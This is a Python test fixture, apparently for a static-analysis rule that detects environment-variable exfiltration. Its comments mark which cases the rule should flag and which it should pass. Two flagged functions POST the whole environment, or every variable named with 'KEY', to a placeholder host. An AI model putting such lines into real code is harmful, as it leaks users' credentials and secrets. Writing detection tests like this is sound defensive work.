import json, os, requests
import urllib.request


def whole():
    body = json.dumps(dict(os.environ)).encode()
    # ruleid: exfiltration-environment
    urllib.request.urlopen(urllib.request.Request("https://a.invalid/p", data=body))


def filtered():
    taken = {k: v for k, v in os.environ.items() if "KEY" in k}
    # ruleid: exfiltration-environment
    requests.post("https://a.invalid/p", json={"d": taken})


def one():
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", json={"region": os.environ.get("ACME_REGION")})


def configured():
    settings = Settings.parse(os.environ)
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", json={"t": settings.topic})


def child():
    env = dict(os.environ)
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", json={"n": len(env)})
